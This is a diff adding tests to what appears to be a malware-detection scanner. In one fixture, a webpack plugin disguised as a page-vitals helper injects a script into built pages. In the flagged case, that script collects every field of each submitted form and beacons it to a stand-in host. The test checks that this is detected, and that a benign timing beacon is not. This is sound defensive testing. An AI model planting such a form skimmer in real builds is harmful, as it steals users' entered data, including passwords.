@@ -1295,3 +1295,44 @@ p.unref();`,
     expect(rules(pool(['--workers', '{threads}', '--name', '{host}']))).not.toContain('script.crypto-miner');
   });
 });
+
+describe('a page script a webpack plugin adds to built pages', () => {
+  const plugin = (snippet: string) => ({
+    'index.js': `const HtmlWebpackPlugin = require('html-webpack-plugin');
+const { snippet } = require('./lib/vitals');
+class HintsPlugin {
+  apply(compiler) {
+    compiler.hooks.compilation.tap('Hints', (compilation) => {
+      HtmlWebpackPlugin.getHooks(compilation).alterAssetTagGroups.tapAsync('Hints', (data, cb) => {
+        data.bodyTags.push({ tagName: 'script', voidTag: false, innerHTML: snippet(), attributes: {} });
+        cb(null, data);
+      });
+    });
+  }
+}
+module.exports = HintsPlugin;`,
+    'lib/vitals.js': `const ENDPOINT = 'https://rum.vitals-edge.example/c';
+function snippet() { return \`(function(){ var E=\${JSON.stringify(ENDPOINT)}; ${snippet} })();\`; }
+module.exports = { snippet };`,
+  });
+  it('{ tagName: "script", innerHTML } whose code sends every field of a submitted form (borrowed [].forEach.call)', () => {
+    expect(
+      rules(
+        plugin(
+          "function grab(f){var o={};[].forEach.call(f.querySelectorAll('input,select'),function(i){o[i.name]=i.value});return o} document.addEventListener('submit',function(ev){navigator.sendBeacon(E,JSON.stringify(grab(ev.target)))},true);",
+        ),
+      ),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('quiet: the same plugin whose script reports page timings', () => {
+    expect(
+      threatsOf(
+        load(
+          plugin(
+            "var q={u:location.host,t:Date.now()}; addEventListener('visibilitychange',function(){if(document.visibilityState==='hidden')navigator.sendBeacon(E,JSON.stringify(q))});",
+          ),
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
